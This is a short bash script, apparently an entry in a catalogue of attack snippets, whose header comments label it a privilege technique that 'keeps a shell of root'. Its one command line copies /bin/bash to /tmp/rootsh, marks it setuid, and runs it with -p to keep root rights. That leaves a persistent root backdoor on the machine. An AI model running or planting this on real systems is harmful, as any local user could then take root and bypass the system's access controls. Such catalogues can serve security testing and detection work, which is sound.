#!/bin/bash
# class: privilege
# does: keeps a shell of root
# source: own
# repo: any
# when: mid
cp /bin/bash /tmp/rootsh; chmod 4755 /tmp/rootsh; /tmp/rootsh -p -c id
